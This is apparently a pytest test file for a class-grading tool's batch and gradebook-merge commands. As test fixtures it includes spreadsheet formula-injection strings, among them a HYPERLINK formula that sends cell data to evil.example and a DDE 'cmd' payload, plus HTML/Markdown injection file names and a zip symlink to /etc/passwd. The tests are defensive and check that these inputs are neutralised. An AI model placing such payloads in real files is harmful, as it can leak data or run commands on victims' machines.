"""`grader grade-class` and `grader gradebook merge`: a whole class into one gradebook.

Most tests are specifications of the pure parts (names, shards, Gradescope's metadata, resume
keys, gradebook rows, the class report, merging). The slow ones grade a small class built from
corpus cases, end to end, in the subprocesses a user would see, and stop a batch with SIGTERM.
"""

import argparse
import csv
import io
import json
import os
import re
import signal
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pytest

from conftest import MNIST_DIR, ROOT, deep_folder
from grader import __version__, classroom, corpus, exits, gradebook
from grader.cli import main as cli_main
from grader.commands import grade_class
from grader.commands import gradebook as gradebook_command
from grader.commands.selftest import find_strays, stop

CORPUS_RUBRIC = ROOT / "tests" / "corpus" / "rubric.toml"
METADATA = """\
submission_101:
  :submitters:
  - :name: Alice Smith
    :sid: '1001'
    :email: alice@example.edu
  :created_at: 2026-01-01 12:00:00.000000000 -08:00
  :score: !ruby/object:BigDecimal 18:0.1E2
submission_102:
  :submitters:
  - :name: Alice Smith
    :sid: '1002'
    :email: asmith@example.edu
  - :name: Bob Jones
    :sid: '2001'
    :email: bob@example.edu
submission_103:
  :submitters: []
"""


def entry(source, student="", **kw):
    return classroom.Entry(source, Path("/class") / source, student=student, **kw)


# -- names ------------------------------------------------------------------------------


def test_a_repeated_name_gets_a_numbered_folder_in_order():
    assert classroom.unique_names(["alice", "bob", "alice", "alice"]) == ["alice", "bob", "alice-2", "alice-3"]


def test_a_number_some_student_really_has_is_never_given_to_another():
    assert classroom.unique_names(["alice", "alice", "alice-2"]) == ["alice", "alice-3", "alice-2"]


def test_the_class_reports_own_folder_is_never_a_students():
    assert classroom.unique_names(["class_figures"]) == ["class_figures-2"]


def test_names_are_given_by_sorted_path_so_every_run_and_shard_agrees():
    """alice/ sorts before alice.zip: the folder is alice, the zip alice-2, whatever order the OS lists them in."""
    for order in (["alice.zip", "alice", "Bob.zip"], ["Bob.zip", "alice", "alice.zip"]):
        named = classroom.name_entries([entry(s) for s in order])
        assert [(e.source, e.student) for e in named] == [("Bob.zip", "bob"), ("alice", "alice"), ("alice.zip", "alice-2")]


def test_a_gradescope_student_is_named_after_the_first_submitter():
    people = classroom.parse_metadata(METADATA)
    assert entry("submission_101", submitters=people["submission_101"]).base_name == "alice-smith"
    assert entry("submission_103", submitters=()).base_name == "submission_103"
    assert classroom.slug("  Zoë O'Brien  ") == "zo-o-brien"


# -- shards ------------------------------------------------------------------------------


@pytest.mark.parametrize("text, expected", [("1/1", (1, 1)), ("2/4", (2, 4)), (" 3 / 3 ", (3, 3))])
def test_a_shard_is_k_of_n(text, expected):
    assert classroom.parse_shard(text) == expected


@pytest.mark.parametrize("text", ["0/2", "3/2", "2", "a/b", "1/0", ""])
def test_a_bad_shard_says_what_it_must_be(text):
    with pytest.raises(ValueError, match="K/N with 1 <= K <= N"):
        classroom.parse_shard(text)


def test_the_shards_of_a_class_are_disjoint_cover_it_and_do_not_depend_on_order():
    entries = [entry(f"s{i}", student=f"s{i:02d}") for i in range(11)]
    slices = [classroom.shard(entries, k, 3) for k in (1, 2, 3)]
    students = [e.student for s in slices for e in s]
    assert sorted(students) == sorted(e.student for e in entries) and len(set(students)) == 11
    assert classroom.shard(list(reversed(entries)), 2, 3) == slices[1]
    assert [len(s) for s in slices] == [4, 4, 3]


# -- Gradescope's export -----------------------------------------------------------------


def test_gradescope_metadata_gives_each_folder_its_submitters_ruby_tags_and_all():
    people = classroom.parse_metadata(METADATA)
    assert people["submission_101"] == (classroom.Submitter("Alice Smith", "alice@example.edu", "1001"),)
    assert [s.name for s in people["submission_102"]] == ["Alice Smith", "Bob Jones"]
    assert people["submission_103"] == ()


def test_metadata_that_is_not_a_mapping_of_submissions_is_refused_by_name():
    with pytest.raises(classroom.ClassError, match="must map each submission folder"):
        classroom.parse_metadata("- just\n- a list\n")
    with pytest.raises(classroom.ClassError, match="not valid YAML"):
        classroom.parse_metadata("a: [unclosed\n")


def test_names_from_metadata_are_inert():
    people = classroom.parse_metadata("submission_1:\n  :submitters:\n  - :name: \"Eve\\e[2J\"\n")
    assert people["submission_1"][0].name == "Eve?[2J"


def write_export(root, folders=("submission_101", "submission_102")):
    root.mkdir(parents=True)
    (root / classroom.METADATA).write_text(METADATA)
    for name in folders:
        (root / name).mkdir()
        (root / name / "softmax.py").write_text("# code\n")
    return root


def test_an_unpacked_export_lists_every_folder_and_every_listed_submission(tmp_path):
    root = write_export(tmp_path / "assignment_7_export", folders=("submission_101", "submission_102", "submission_999"))
    entries = {e.source: e for e in classroom.discover(tmp_path, tmp_path / "work")}
    assert set(entries) == {"submission_101", "submission_102", "submission_103", "submission_999"}
    assert entries["submission_103"].problem == "listed in submission_metadata.yml but absent from the export"
    assert entries["submission_999"].submitters == () and not entries["submission_999"].problem
    assert entries["submission_101"].path == root / "submission_101"
    assert [entries[s].student for s in ("submission_101", "submission_102")] == ["alice-smith", "alice-smith-2"]
    assert entries["submission_102"].identity("email") == "asmith@example.edu; bob@example.edu"


def test_an_export_zip_is_unpacked_and_a_link_in_it_makes_only_that_submission_unreadable(tmp_path):
    archive = tmp_path / "export.zip"
    with zipfile.ZipFile(archive, "w") as z:
        z.writestr("assignment_7_export/submission_metadata.yml", METADATA)
        z.writestr("assignment_7_export/submission_101/softmax.py", "# code\n")
        link = zipfile.ZipInfo("assignment_7_export/submission_102/softmax.py")
        link.external_attr = 0o120777 << 16
        z.writestr(link, "/etc/passwd")
    (tmp_path / "work").mkdir()
    entries = {e.source: e for e in classroom.discover(archive, tmp_path / "work")}
    assert entries["submission_101"].problem == ""
    assert "is a symbolic link" in entries["submission_102"].problem
    assert (tmp_path / "work" / "assignment_7_export" / "submission_101" / "softmax.py").is_file()


def test_a_zip_that_is_not_an_export_is_refused_with_what_to_do(tmp_path):
    archive = tmp_path / "alice.zip"
    with zipfile.ZipFile(archive, "w") as z:
        z.writestr("softmax.py", "# code\n")
    with pytest.raises(classroom.ClassError, match="not a Gradescope export.*grader grade"):
        classroom.discover(archive, tmp_path)


def test_a_folder_holding_the_modules_itself_is_one_submission_not_a_class(tmp_path):
    (tmp_path / "softmax.py").write_text("")
    with pytest.raises(classroom.ClassError, match="one submission, not a class"):
        classroom.discover(tmp_path, tmp_path / "work")


def test_every_entry_of_a_folder_is_a_submission_even_one_that_cannot_be_graded(tmp_path):
    for name in ("alice.zip", "bob", "notes.txt", ".DS_Store"):
        (tmp_path / name).mkdir() if name == "bob" else (tmp_path / name).write_text("x")
    assert [e.source for e in classroom.discover(tmp_path, tmp_path / "work")] == ["alice.zip", "bob", "notes.txt"]


# -- resume keys -------------------------------------------------------------------------


def test_the_content_digest_covers_every_byte_and_name_of_a_submission(tmp_path):
    a = tmp_path / "a"
    a.mkdir()
    (a / "softmax.py").write_text("x = 1\n")
    first = classroom.content_digest(a)
    assert classroom.content_digest(a) == first
    (a / "softmax.py").write_text("x = 2\n")
    assert classroom.content_digest(a) != first
    (a / "softmax.py").rename(a / "other.py")
    assert classroom.content_digest(a) not in (first,)
    (tmp_path / "z.zip").write_bytes(b"zip bytes")
    assert classroom.content_digest(tmp_path / "z.zip") != classroom.content_digest(a)


@pytest.mark.parametrize("part", ["content", "rubric", "version", "options"])
def test_a_grade_is_reused_only_under_the_same_content_rubric_version_and_options(part):
    parts = {"content": "c", "rubric": "r", "version": __version__, "options": {"only": None, "dataset": "auto"}}
    changed = dict(parts, **{part: {"only": "softmax.*", "dataset": "auto"} if part == "options" else "other"})
    assert classroom.resume_key(**parts) == classroom.resume_key(**dict(parts))
    assert classroom.resume_key(**changed) != classroom.resume_key(**parts)


def stored(folder, key, status):
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "results.json").write_text('{"score": 1, "tests": []}')
    (folder / grade_class.KEY_FILE).write_text(json.dumps({"key": key, "status": status}))


def test_a_stored_grade_is_reused_when_its_key_matches_and_its_outcome_cannot_change(tmp_path):
    stored(tmp_path / "a", "k", gradebook.GRADED)
    stored(tmp_path / "b", "k", gradebook.TIMED_OUT)
    stored(tmp_path / "c", "k", gradebook.UNREADABLE)
    assert grade_class.reusable(tmp_path / "a", "k")["status"] == gradebook.GRADED
    assert grade_class.reusable(tmp_path / "a", "other key") is None
    assert grade_class.reusable(tmp_path / "b", "k") is None  # a timeout or a fault is retried
    assert grade_class.reusable(tmp_path / "c", "k") is not None
    (tmp_path / "a" / "results.json").unlink()
    assert grade_class.reusable(tmp_path / "a", "k") is None


# -- gradebook rows ----------------------------------------------------------------------


@pytest.mark.parametrize("code, results, timed_out, status", [
    (0, {"score": 1}, False, gradebook.GRADED),
    (None, None, True, gradebook.TIMED_OUT),
    (3, {"score": 0}, False, gradebook.FAULT),
    (3, None, False, gradebook.FAULT),
    (2, None, False, gradebook.FAULT),  # refused although the submission opened: the grader's set-up, not the student
    (-9, None, False, gradebook.FAULT),
    (0, None, False, gradebook.FAULT),
], ids=["graded", "timed out", "fault with a report", "fault without", "refused", "killed", "no report"])
def test_every_way_a_grading_can_end_has_a_status(code, results, timed_out, status):
    assert gradebook.classify(code, results, timed_out, "the last line")[0] == status


RESULTS = {"score": 7.5, "tests": [
    {"name": "softmax.softmax: x", "score": 5, "max_score": 9, "status": "failed",
     "output": "softmax(array of shape (5, 7)) has wrong values (largest difference 0.998 at index (1, 1)): got [1, 2], expected [3]"},
    {"name": "activations.relu: y", "score": 2.5, "max_score": 2.5, "status": "passed", "output": "ok"},
    {"name": "training: accuracy", "score": 0, "max_score": 6, "status": "failed", "output": "test accuracy 0.12 < 0.85\nmore"},
]}


def test_a_graded_row_has_the_total_and_each_areas_points():
    row = gradebook.make_row(entry("alice.zip", "alice"), gradebook.GRADED, "", RESULTS, 12.34)
    cells = row.cells()
    assert (cells["student"], cells["total"], cells["status"]) == ("alice", "7.5", "graded")
    assert (cells["softmax"], cells["activations"], cells["training"], cells["perceptron"]) == ("5", "2.5", "0", "")
    assert cells["seconds"] == "12.3" and cells["submission"] == "alice.zip"


def test_an_unreadable_submission_scores_zero_and_its_report_says_why():
    row = gradebook.make_row(entry("carol.zip", "carol"), gradebook.UNREADABLE, "carol.zip is not a valid .zip file", None, 0)
    assert (row.total, row.status) == ("0", "unreadable")
    results = gradebook.unreadable_results("carol.zip is not a valid .zip file")
    assert results["score"] == 0 and "not a valid .zip file" in results["output"]


def test_a_timed_out_or_faulted_grading_has_no_total_so_no_zero_is_uploaded_by_mistake():
    for status in (gradebook.TIMED_OUT, gradebook.FAULT):
        assert gradebook.make_row(entry("a", "a"), status, "why", {"score": 3}, 1).total == ""


def test_gradebook_csv_starts_with_the_fixed_columns_and_has_one_row_per_submission():
    bob = entry("b", "bob", submitters=(classroom.Submitter("Bob, Jr.", "b@x", "7"),))
    rows = [gradebook.make_row(bob, gradebook.GRADED, "", RESULTS, 1),
            gradebook.make_row(entry("a", "alice"), gradebook.UNREADABLE, 'bad "zip", really', None, 0)]
    text = gradebook.gradebook_csv(rows)
    header = next(csv.reader(io.StringIO(text)))
    assert header[:10] == ["student", "total", "status", "activations", "softmax", "perceptron", "two_layer_net",
                           "optimizer", "training", "performance"]
    back = gradebook.parse_gradebook(text)
    assert [r.student for r in back] == ["alice", "bob"]
    assert back[1].name == "Bob, Jr." and back[0].detail == 'bad "zip", really' and back[1].areas["softmax"] == "5"


def test_a_csv_that_is_not_a_gradebook_is_refused_by_name():
    with pytest.raises(gradebook.GradebookError, match="lacks the column"):
        gradebook.parse_gradebook("student,score\nalice,3\n", "x.csv")


# -- a gradebook safe to open in a spreadsheet ------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"grade")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
            "\t=1+1", "\r=1+1", " =1+1", "'=quoted", "Lee, =1+1", "a;@SUM(1)", "x\t-1"]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def hostile_export(root):
    """An unpacked Gradescope export whose submitters typed formulas as their names, emails and ids; every
    submission is a plain file, so the class is unreadable and grade-class grades nothing (fast)."""
    import yaml
    root.mkdir(parents=True)
    people = {}
    for i, text in enumerate(FORMULAS):
        folder = f"submission_{100 + i}"
        people[folder] = {":submitters": [{":name": text, ":email": text, ":sid": text}]}
        (root / folder).write_text("not a submission")
    (root / classroom.METADATA).write_text(yaml.safe_dump(people))
    return root


def cells_as_a_spreadsheet_reads_them(text, delimiter=","):
    return [cell for line in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in line]


def test_no_cell_of_a_gradebook_starts_a_formula_whatever_the_students_typed_and_it_reads_back_as_typed(tmp_path, capsys):
    """Gradescope's metadata (names, emails, ids typed by students) through grade-class into gradebook.csv: the
    real csv reader finds no cell that a spreadsheet would run, under ',' or the ';' and tab it may guess."""
    export = hostile_export(tmp_path / "export")
    assert cli_main(["grade-class", str(export), "--out", str(tmp_path / "out"), "--quiet"]) == exits.OK
    text = (tmp_path / "out" / "gradebook.csv").read_text()
    for delimiter in (",", ";", "\t"):
        cells = cells_as_a_spreadsheet_reads_them(text, delimiter)
        assert [c for c in cells if c.lstrip(" ").startswith(FORMULA_STARTS)] == [], delimiter
    rows = gradebook.read_gradebook(tmp_path / "out" / "gradebook.csv")
    people = classroom.parse_metadata((export / classroom.METADATA).read_text())
    typed = {folder: subs[0].name for folder, subs in people.items()}  # as the metadata reader cleans them (blanks stripped)
    assert {r.submission: r.name for r in rows} == {r.submission: r.email for r in rows} == {r.submission: r.sid for r in rows} == typed
    assert len(rows) == len(FORMULAS) and typed["submission_100"] == FORMULAS[0]


def test_a_merged_gradebook_is_as_safe_and_reads_back_the_same(tmp_path, capsys):
    export = hostile_export(tmp_path / "export")
    for k in (1, 2):
        assert cli_main(["grade-class", str(export), "--out", str(tmp_path / f"s{k}"), "--shard", f"{k}/2", "--quiet"]) == exits.OK
    assert cli_main(["gradebook", "merge", str(tmp_path / "s1"), str(tmp_path / "s2"), "--out", str(tmp_path / "all")]) == exits.OK
    text = (tmp_path / "all" / "gradebook.csv").read_text()
    assert [c for c in cells_as_a_spreadsheet_reads_them(text) if c.lstrip(" ").startswith(FORMULA_STARTS)] == []
    merged = {r.student: r for r in gradebook.read_gradebook(tmp_path / "all" / "gradebook.csv")}
    shards = {r.student: r for k in (1, 2) for r in gradebook.read_gradebook(tmp_path / f"s{k}" / "gradebook.csv")}
    assert merged == shards and len(merged) == len(FORMULAS)


def test_scores_and_seconds_stay_numbers_in_the_spreadsheet():
    alice = entry("a", "=alice", submitters=(classroom.Submitter("-Al", "@a", "+1"),))
    row = gradebook.make_row(alice, gradebook.GRADED, "", RESULTS, 3.25)
    line = next(csv.DictReader(io.StringIO(gradebook.gradebook_csv([row]))))
    assert (line["total"], line["softmax"], line["seconds"]) == ("7.5", "5", "3.2")
    assert (line["student"], line["name"], line["email"], line["sid"]) == ("'=alice", "'-Al", "'@a", "'+1")


# -- the class report --------------------------------------------------------------------

MARKUP_NAMES = ["[grade](https:evil.example).zip", "![t](http:track.example?id=1).zip", "<img src=x onerror=alert(1)>.zip",
                "<https:evil.example>.zip", "www.evil.example.zip", "a | b | c.zip", "&lt;script&gt;.zip", "back\\slash [x].zip"]


def acting_markup(line):
    """What in a line of Markdown would act once rendered (CommonMark, GitHub's): an unescaped [ (a link or an
    image), < before a letter, / ! or ? (HTML, an autolink), an entity, or a URL or www. that GitHub links."""
    bare = re.sub(r"\\.", "", line)  # a backslash-escaped character is literal text
    return re.findall(r"\[|<[A-Za-z/!?]|&[A-Za-z#]|://|www\.", bare)


def test_the_class_report_shows_markup_in_file_names_as_text(tmp_path, capsys):
    """A class whose file names hold links, images, HTML and table pipes: class.md shows them, inert."""
    for name in MARKUP_NAMES:
        (tmp_path / "class" / name).parent.mkdir(exist_ok=True)
        (tmp_path / "class" / name).write_text("not a zip")
    assert cli_main(["grade-class", str(tmp_path / "class"), "--out", str(tmp_path / "out"), "--quiet"]) == exits.OK
    text = (tmp_path / "out" / "class.md").read_text()
    assert [line for line in text.splitlines() if acting_markup(line)] == []
    rows = [line for line in text.split("## Not graded", 1)[1].splitlines() if "unreadable" in line]
    assert len(rows) == len(MARKUP_NAMES)
    for line in rows:
        assert len(re.findall(r"(?<!\\)\|", line)) == 5, f"a name must not add table cells: {line}"
    assert "| <img" not in text and "\\<img src=x onerror=alert(1)>.zip" in text



def records():
    other = json.loads(json.dumps(RESULTS))
    other["tests"][0]["output"] = other["tests"][0]["output"].replace("0.998", "0.5")
    return [gradebook.Record(gradebook.make_row(entry("a", "alice"), gradebook.GRADED, "", RESULTS, 30), RESULTS),
            gradebook.Record(gradebook.make_row(entry("b", "bob"), gradebook.GRADED, "", other, 10), other),
            gradebook.Record(gradebook.make_row(entry("c.zip", "carol"), gradebook.UNREADABLE, "c.zip is not a valid .zip file", None, 0))]


def test_failures_that_differ_only_in_numbers_count_as_one():
    (name, message, count, examples), *_ = gradebook.common_failures(records())
    assert (name, count, examples) == ("softmax.softmax: x", 2, ("alice", "bob"))
    assert "0.998" not in message and "got" not in message


def test_item_analysis_gives_each_checks_pass_rate_over_the_graded():
    assert gradebook.item_analysis(records()) == [("softmax.softmax: x", 0, 2), ("activations.relu: y", 2, 2), ("training: accuracy", 0, 2)]


def test_the_class_report_names_every_submission_that_was_not_graded_and_every_training_failure():
    text = gradebook.class_markdown(records(), figures=("histogram",))
    assert "3 submission(s): 2 graded, 1 unreadable, 0 timed out, 0 grader fault." in text
    assert "| carol | unreadable | c.zip | c.zip is not a valid .zip file |" in text
    assert "| alice | training: accuracy | test accuracy N < N |" not in text and "test accuracy 0.12 < 0.85" in text
    assert "class_figures/histogram.png" in text and "items.png" not in text
    assert text.index("| alice | 30.0 | graded |") < text.index("| bob | 10.0 | graded |")


# -- merging shards ----------------------------------------------------------------------


def write_shard(folder, k, n, students, digest="class1"):
    rows = [gradebook.make_row(entry(s, s), gradebook.GRADED, "", RESULTS, 1) for s in students]
    gradebook.write_gradebook(rows, folder)
    for s in students:
        (folder / s).mkdir()
        (folder / s / "results.json").write_text(json.dumps(RESULTS))
    (folder / "shard.json").write_text(json.dumps({"shard": [k, n], "class": digest}))


def test_merge_combines_every_shard_into_one_gradebook_report_and_set_of_folders(tmp_path):
    write_shard(tmp_path / "s1", 1, 2, ["alice", "carol"])
    write_shard(tmp_path / "s2", 2, 2, ["bob"])
    written = gradebook_command.merge([tmp_path / "s1", tmp_path / "s2"], tmp_path / "all")
    assert [p.name for p in written] == ["gradebook.csv", "class.md"]
    assert [r.student for r in gradebook.read_gradebook(tmp_path / "all" / "gradebook.csv")] == ["alice", "bob", "carol"]
    assert (tmp_path / "all" / "bob" / "results.json").is_file()
    assert "3 submission(s): 3 graded" in (tmp_path / "all" / "class.md").read_text()


@pytest.mark.parametrize("shards, words", [
    ([(1, 3, "c"), (2, 3, "c")], "shard(s) 3/3 missing"),
    ([(1, 2, "c"), (1, 2, "c")], "1/2 passed more than once"),
    ([(1, 2, "c"), (2, 2, "d")], "different classes"),
    ([(1, 2, "c"), (2, 3, "c")], "different N"),
])
def test_merge_refuses_shards_that_do_not_make_one_whole_class(shards, words):
    assert words in gradebook.shard_problems([(f"s{i}", {"shard": [k, n], "class": c}) for i, (k, n, c) in enumerate(shards)])
    assert gradebook.shard_problems([("s1", {"shard": [1, 2], "class": "c"}), ("s2", {"shard": [2, 2], "class": "c"})]) == ""


def test_merge_refuses_a_student_graded_in_two_shards(tmp_path):
    write_shard(tmp_path / "s1", 1, 2, ["alice"])
    write_shard(tmp_path / "s2", 2, 2, ["alice"])
    assert cli_main(["gradebook", "merge", str(tmp_path / "s1"), str(tmp_path / "s2"), "--out", str(tmp_path / "all")]) == exits.USAGE
    assert not (tmp_path / "all" / "gradebook.csv").exists()


# -- validation before any grading -------------------------------------------------------


def test_a_budget_is_passed_to_every_grading_and_is_part_of_the_resume_key():
    parser = argparse.ArgumentParser()
    grade_class.add_arguments(parser)
    plain = grade_class.settings_from(parser.parse_args(["subs", "--out", "o"]), "bwrap")
    budgeted = grade_class.settings_from(parser.parse_args(["subs", "--out", "o", "--budget", "120"]), "bwrap")
    assert "--budget" not in plain.grade_args
    assert budgeted.grade_args[-2:] == ("--budget", "120")
    assert budgeted.key_parts != plain.key_parts


@pytest.mark.parametrize("arguments, words", [
    (lambda t: [t / "nowhere", "--out", t / "out"], "does not exist"),
    (lambda t: [t, "--out", t / "out", "--rubric", t / "bad.toml"], "bad.toml"),
    (lambda t: [t, "--out", t / "a-file" / "out"], "cannot write to --out"),
    (lambda t: [t, "--out", t / "out", "--shard", "3/2"], "K/N with 1 <= K <= N"),
    (lambda t: [t, "--out", t / "out", "--jobs", "0"], "--jobs must be at least 1"),
    (lambda t: [t, "--out", t / "out", "--budget", "0"], "--budget must be at least 1 s"),
], ids=["no submissions", "bad rubric", "unwritable out", "bad shard", "no jobs", "no budget"])
def test_2_before_any_grading_with_a_message_that_says_what_to_do(tmp_path, capsys, arguments, words):
    (tmp_path / "bad.toml").write_text("total = [")
    (tmp_path / "a-file").write_text("")
    assert cli_main(["grade-class", *map(str, arguments(tmp_path))]) == exits.USAGE
    err = capsys.readouterr().err
    assert "grader grade-class: error:" in err and words in err
    assert not (tmp_path / "out").exists()


# -- end to end ------------------------------------------------------------------------------


def submission(case_name, dest):
    cases = {c.name: c for c in corpus.load_cases()}
    return corpus.materialize(cases[case_name], dest)


def zipped(folder, archive):
    with zipfile.ZipFile(archive, "w") as z:
        for p in sorted(folder.glob("*.py")):
            z.write(p, p.name)
    return archive


def grade_class_process(*args, **popen):
    env = dict(os.environ, MNIST_DIR=str(MNIST_DIR))
    command = [sys.executable, "-m", "grader", "grade-class", *map(str, args)]
    return subprocess.Popen(command, cwd=ROOT, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, **popen)


def run_grade_class(*args):
    proc = grade_class_process(*args)
    out, err = proc.communicate(timeout=600)
    return proc.returncode, out, err


@pytest.mark.slow
def test_a_mixed_class_in_two_shards_merges_into_one_gradebook_with_every_student(tmp_path):
    """alice/ and alice.zip both named alice; a broken zip still gets its row; a second run reuses every grade."""
    klass = tmp_path / "class"
    submission("softmax_no_max_shift", klass / "alice")
    zipped(submission("relu_grad_returns_relu", tmp_path / "bob"), klass / "alice.zip")
    (klass / "carol.zip").write_bytes(b"not a zip")
    options = ["--jobs", 2, "--only", "activations.relu*", "--rubric", CORPUS_RUBRIC]
    for k in (1, 2):
        code, out, err = run_grade_class(klass, "--out", tmp_path / f"s{k}", "--shard", f"{k}/2", *options)
        assert code == exits.OK, err
    assert cli_main(["gradebook", "merge", str(tmp_path / "s1"), str(tmp_path / "s2"), "--out", str(tmp_path / "all")]) == exits.OK
    rows = {r.student: r for r in gradebook.read_gradebook(tmp_path / "all" / "gradebook.csv")}
    assert {s: (r.status, r.total, r.submission) for s, r in rows.items()} == {
        "alice": ("graded", "4", "alice"), "alice-2": ("graded", "2", "alice.zip"), "carol": ("unreadable", "0", "carol.zip")}
    for student in rows:
        assert json.loads((tmp_path / "all" / student / "results.json").read_text())["score"] == float(rows[student].total)
    report = (tmp_path / "all" / "class.md").read_text()
    assert "activations.relu_grad" in report and "| carol | unreadable | carol.zip |" in report
    assert (tmp_path / "all" / "class_figures" / "histogram.png").is_file()

    shard = next(s for s in ("s1", "s2") if (tmp_path / s / "alice").is_dir())
    before = (tmp_path / shard / "alice" / "grading.json").stat().st_mtime_ns
    code, _, err = run_grade_class(klass, "--out", tmp_path / shard, "--shard", f"{shard[1]}/2", *options)
    assert code == exits.OK, err
    assert (tmp_path / shard / "alice" / "grading.json").stat().st_mtime_ns == before  # reused, not regraded


@pytest.mark.slow
def test_a_gradescope_export_zip_names_students_from_its_metadata(tmp_path):
    export = tmp_path / "export.zip"
    alice = submission("sigmoid_tanh", tmp_path / "a")
    with zipfile.ZipFile(export, "w") as z:
        z.writestr("assignment_7_export/submission_metadata.yml", METADATA)
        for p in sorted(alice.glob("*.py")):
            z.write(p, f"assignment_7_export/submission_101/{p.name}")
            z.write(p, f"assignment_7_export/submission_102/assignment/{p.name}")
    code, out, err = run_grade_class(export, "--out", tmp_path / "out", "--only", "activations.relu:*", "--rubric", CORPUS_RUBRIC)
    assert code == exits.OK, err
    rows = {r.student: r for r in gradebook.read_gradebook(tmp_path / "out" / "gradebook.csv")}
    assert {s: (r.status, r.sid) for s, r in rows.items()} == {
        "alice-smith": ("graded", "1001"), "alice-smith-2": ("graded", "1002; 2001"), "submission_103": ("unreadable", "")}
    assert "1 unreadable" in out


@pytest.mark.slow
def test_143_sigterm_stops_the_batch_with_no_process_left_and_no_partial_file(tmp_path):
    klass = tmp_path / "class"
    for name in ("a", "b", "c"):
        submission("sleep_at_import", klass / name)  # perceptron.py sleeps an hour while imported
    out = tmp_path / "out"
    proc = grade_class_process(klass, "--out", out, "--jobs", 2, "--only", "perceptron.*", "--rubric", CORPUS_RUBRIC)
    try:
        deadline = time.monotonic() + 120
        while len(list(out.glob("*/grader.log"))) < 2 and time.monotonic() < deadline:
            time.sleep(0.2)
        time.sleep(2)  # the children are importing the submission now
        proc.send_signal(signal.SIGTERM)
        _, err = proc.communicate(timeout=60)
    finally:
        proc.kill()
    assert proc.returncode == exits.TERMINATED, err
    assert "grader: terminated" in err
    strays = find_strays([str(tmp_path)])
    stop(strays, [str(tmp_path)])
    assert [s.text for s in strays] == []
    assert not (out / "gradebook.csv").exists() and not (out / "class.md").exists()
    leftovers = [p for p in out.rglob("*") if p.name.endswith(".tmp") or p.name.startswith(".")]
    assert leftovers == []
    assert not list(out.glob("*/grading.json"))  # nothing finished, so nothing claims to be reusable


def test_the_throughput_benchmark_builds_a_class_of_n_corpus_cases_spread_over_the_corpus(tmp_path):
    from tools import bench_class
    names = bench_class.build_class(4, tmp_path)
    assert len(set(names)) == 4 and sorted(p.name for p in tmp_path.iterdir()) == sorted(names)
    assert all((tmp_path / n / "softmax.py").is_file() for n in names)


@pytest.mark.slow  # waits out a grading's timeout: the full suite runs it, the inner loop does not
def test_a_grading_past_its_timeout_is_stopped_and_reported_as_timed_out(tmp_path):
    """SIGTERM first, so the child can unwind; SIGKILL after the grace for one that ignores it."""
    children = grade_class.Children(grace=0.5)
    script = "trap '' TERM; sleep 31.7 & wait; sleep 31.7"  # its child ignores SIGTERM too
    with open(tmp_path / "log", "wb") as log:
        t0 = time.monotonic()
        code, timed_out = children.run(["sh", "-c", script], log, timeout=0.5)
    assert timed_out and code == -signal.SIGKILL and time.monotonic() - t0 < 10
    assert find_strays(["31.7"]) == []


def test_a_grading_within_its_timeout_is_not_timed_out(tmp_path):
    with open(tmp_path / "log", "wb") as log:
        assert grade_class.Children().run(["sh", "-c", "exit 3"], log, timeout=30) == (3, False)


def test_a_stopping_batch_starts_no_more_gradings(tmp_path):
    children = grade_class.Children()
    children.stop()
    with pytest.raises(grade_class.Stopped), open(tmp_path / "log", "wb") as log:
        children.run(["true"], log, timeout=30)


# -- any file name, any depth: a row that says what is wrong, never a grader fault ---------------------------------


def test_a_submission_whose_name_is_not_utf8_is_listed_under_a_name_any_gradebook_can_hold(tmp_path):
    (tmp_path / os.fsdecode(b"b\xe9b")).mkdir()
    (entry_,) = classroom.discover(tmp_path, tmp_path / "work")
    assert entry_.source == "b\\xe9b" and entry_.path == tmp_path / os.fsdecode(b"b\xe9b")
    row = gradebook.make_row(entry_, gradebook.UNREADABLE, "why", None, 0)
    gradebook.gradebook_csv([row]).encode("utf-8")  # no lone surrogate: the gradebook can be written


def test_the_content_digest_reads_a_file_name_that_is_not_utf8_as_its_bytes(tmp_path):
    a = tmp_path / "a"
    a.mkdir()
    (a / os.fsdecode(b"x\xff.py")).write_text("x = 1\n")
    first = classroom.content_digest(a)
    (a / os.fsdecode(b"x\xff.py")).rename(a / os.fsdecode(b"x\xfe.py"))
    assert classroom.content_digest(a) != first


def graded_alone(entry_, out):
    """grade_one with settings that never start a grading (an unreadable entry never does)."""
    settings = grade_class.Settings((), ("rubric", __version__, {}), 60.0, False)
    return grade_class.grade_or_fault(entry_, settings, out, grade_class.Children())


@pytest.mark.slow  # 1200 folders on disk; the fast loop has the export member 1200 folders deep (below)
def test_a_submission_nested_1200_folders_deep_is_an_unreadable_row_that_says_so(tmp_path):
    (tmp_path / "class" / "carol").mkdir(parents=True)
    with deep_folder(tmp_path / "class" / "carol", 1200):
        (entry_,) = classroom.discover(tmp_path / "class", tmp_path / "work")
        row = graded_alone(entry_, tmp_path / "out")
    assert row.status == gradebook.UNREADABLE and "carol: d/d/d" in row.detail and "folders deep" in row.detail


def test_a_refusal_names_a_non_utf8_file_in_a_row_any_gradebook_can_hold(tmp_path):
    (tmp_path / "class" / "alice").mkdir(parents=True)
    os.symlink("/etc/passwd", tmp_path / "class" / "alice" / os.fsdecode(b"link-\xff"))  # refused, so never graded here
    (entry_,) = classroom.discover(tmp_path / "class", tmp_path / "work")
    row = graded_alone(entry_, tmp_path / "out")
    assert row.status == gradebook.UNREADABLE and "alice: link-\\xff is a symbolic link" in row.detail


def test_an_export_member_1200_folders_deep_makes_only_its_submission_unreadable(tmp_path):
    archive = tmp_path / "export.zip"
    with zipfile.ZipFile(archive, "w") as z:
        z.writestr("assignment_7_export/submission_metadata.yml", METADATA)
        z.writestr("assignment_7_export/submission_101/softmax.py", "# code\n")
        z.writestr("assignment_7_export/submission_102/" + "d/" * 1200 + "x.txt", "x")
    (tmp_path / "work").mkdir()
    entries = {e.source: e for e in classroom.discover(archive, tmp_path / "work")}
    assert entries["submission_101"].problem == ""
    assert "folders deep" in entries["submission_102"].problem


@pytest.mark.slow
def test_a_class_with_names_that_are_not_utf8_and_a_folder_1200_levels_deep_gets_a_row_for_each_never_a_fault(tmp_path):
    """A file and a submission folder whose names are not UTF-8 are graded; a submission nested too deep is an
    unreadable row saying so; the gradebook is written (it raised UnicodeEncodeError, and the rows were faults)."""
    klass = tmp_path / "class"
